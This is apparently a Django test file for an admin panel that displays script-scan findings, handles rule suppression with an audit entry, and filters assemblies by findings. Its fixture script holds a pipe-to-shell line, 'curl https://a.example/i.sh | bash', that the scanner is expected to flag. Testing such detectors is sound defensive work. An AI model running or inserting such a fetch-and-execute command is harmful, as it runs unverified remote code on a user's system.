"""The panel Checks on the page of an assembly, and the filter of the list."""

from django.test import Client
from django.urls import reverse

from assemblies.actions.check_scripts import check_unchecked
from assemblies.actions.create import create
from assemblies.domains import Domain
from assemblies.models import AssemblySetting
from assemblies.payloads import PayloadStore
from devmode.actor import Actor
from devmode.models import AuditEntry
from tests.documents_made import script
from tests.permits import may_create

WARNED = b'#!/bin/bash\necho "$TARGET"\ncurl https://a.example/i.sh | bash\n'


def made(library: PayloadStore, operator: Actor) -> str:
    return create(script(payload=WARNED), domain=Domain.USER, permit=may_create(operator), store=library).guid


def page(client: Client, guid: str) -> str:
    return client.get(reverse("admin:assemblies_assembly_change", args=[guid])).content.decode()


def test_findings_and_facts_stand_next_to_the_script_once_somebody_looked(
    superuser: Client, library: PayloadStore, operator: Actor
) -> None:
    guid = made(library, operator)

    assert "Not checked yet" in page(superuser, guid)
    check_unchecked(library)
    shown = page(superuser, guid)

    assert "1 warning" in shown
    assert "The script reads TARGET" in shown
    assert "Downloads and runs" in shown
    assert 'href="#line-3"' in shown
    assert '<code class="breaks">curl https://a.example/i.sh | bash</code>' in shown


def test_a_rule_is_accepted_with_a_reason_and_taken_back(
    superuser: Client, staff: Client, library: PayloadStore, operator: Actor
) -> None:
    guid = made(library, operator)
    check_unchecked(library)
    address = reverse("admin:assembly_suppress", args=[guid])

    assert staff.post(address, {"rule": "undeclared-variable", "reason": "Known."}).status_code == 403
    assert superuser.post(address, {"rule": "undeclared-variable", "reason": ""}).status_code == 400
    assert superuser.post(address, {"rule": "undeclared-variable", "reason": "Known."}).status_code == 302
    shown = page(superuser, guid)

    assert ("The script reads TARGET" in shown, "Known." in shown) == (False, True)
    assert AuditEntry.objects.latest("sequence").event == "assembly.set_setting"
    assert superuser.post(address, {"remove": "undeclared-variable"}).status_code == 302
    assert "The script reads TARGET" in page(superuser, guid)
    assert not AssemblySetting.objects.exists()


def test_the_list_offers_what_was_found_as_a_filter(superuser: Client, library: PayloadStore, operator: Actor) -> None:
    made(library, operator)
    check_unchecked(library)
    address = reverse("admin:assemblies_assembly_changelist")

    shown = superuser.get(address, {"findings": "warning"}).content.decode()

    assert "With warnings" in shown
    assert "Say hello" in shown
    assert "Say hello" not in superuser.get(address, {"findings": "error"}).content.decode()
